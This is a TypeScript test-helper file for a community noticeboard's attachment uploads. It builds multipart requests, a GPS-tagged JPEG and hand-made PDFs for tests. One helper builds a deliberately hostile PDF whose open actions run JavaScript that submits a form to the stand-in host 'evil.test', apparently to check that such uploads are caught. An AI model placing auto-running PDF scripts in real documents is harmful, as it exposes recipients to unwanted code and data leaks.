/** Test helpers: multipart uploads through app.inject, fixture files made in memory, posts straight into the database. */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import type { PostAudience, PostVisibility } from '@noticeboard/shared';
import { eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import type { Db } from '../../../db/client';
import { postAttachments, posts } from '../../../db/schema';
import type { SignedIn } from '../../../test/session';

export const hasTool = (command: string) => spawnSync(command, ['-v'], { stdio: 'ignore' }).error === undefined;

export function upload(
  app: FastifyInstance,
  who: SignedIn | undefined,
  file: Buffer,
  filename: string,
  query = '',
  declaredType = 'application/octet-stream',
) {
  const boundary = `----nb${randomBytes(8).toString('hex')}`;
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${declaredType}\r\n\r\n`,
    ),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return app.inject({
    method: 'POST',
    url: `/api/community/attachments${query}`,
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, ...(who ? { cookie: who.cookie } : {}) },
    payload,
  });
}

/** A camera photo: JPEG with GPS coordinates and a copyright in its EXIF, stored sideways (orientation 6). */
export function photoWithGps(width = 2400, height = 1600): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#4a8' } })
    .jpeg()
    .withExif({
      IFD0: { Copyright: 'Demo camera' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '12/1 58/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '77/1 35/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** The GPS IFD pointer tag (0x8825) as it appears in little- or big-endian EXIF. */
export function hasGpsTag(exif: Buffer | undefined): boolean {
  return !!exif && (exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25])));
}

/** A one-page PDF written by hand (a box and a line of text), with a correct cross-reference table. */
export function minimalPdf(): Buffer {
  return pdfOf('<< /Type /Catalog /Pages 2 0 R >>');
}

/** The same page with JavaScript run on opening (`/OpenAction`) and on page open (`/AA`): hostile content. */
export function pdfWithScript(): Buffer {
  return pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /O 6 0 R >> >>', [
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('scripted'\\); this.submitForm\\('http://evil.test/'\\);) >>",
  ]);
}

function pdfOf(catalog: string, extraObjects: string[] = []): Buffer {
  const content = 'BT /F1 24 Tf 72 720 Td (Science fair poster) Tj ET 72 600 200 80 re S';
  const objects = [
    catalog,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extraObjects,
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(out.length);
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** Every file under the storage folder's community/ (empty when none). */
export async function storedFiles(filesDir: string): Promise<string[]> {
  try {
    const entries = await readdir(path.join(filesDir, 'community'), { recursive: true, withFileTypes: true });
    return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
  } catch {
    return [];
  }
}

export interface TestPost {
  authorId: string;
  instituteId: string | null;
  visibility: PostVisibility;
  audience?: PostAudience;
}

export async function insertPost(db: Db, post: TestPost): Promise<string> {
  const slug = `post-${randomBytes(5).toString('hex')}`;
  const [row] = await db
    .insert(posts)
    .values({
      slug,
      authorId: post.authorId,
      instituteId: post.instituteId,
      postType: 'PHOTOS',
      category: 'Art',
      categorySlug: 'art',
      descriptionHtml: '<p>Our class garden</p>',
      descriptionText: 'Our class garden',
      audience: post.audience ?? 'EVERYONE',
      visibility: post.visibility,
      requestStatus: post.visibility === 'SELF' ? 'PENDING' : 'PUBLISHED',
      publishedAt: post.visibility === 'SELF' ? null : new Date(),
    })
    .returning({ id: posts.id });
  if (!row) throw new Error('post insert returned no row');
  return row.id;
}

export async function attachToPost(db: Db, attachmentId: string, postId: string): Promise<void> {
  await db.update(postAttachments).set({ postId }).where(eq(postAttachments.id, attachmentId));
}

/** The storage key of a served URL (`/api/community/files/<key>`). */
export const keyOfUrl = (url: string) => url.replace(/^\/api\/community\/files\//, '');
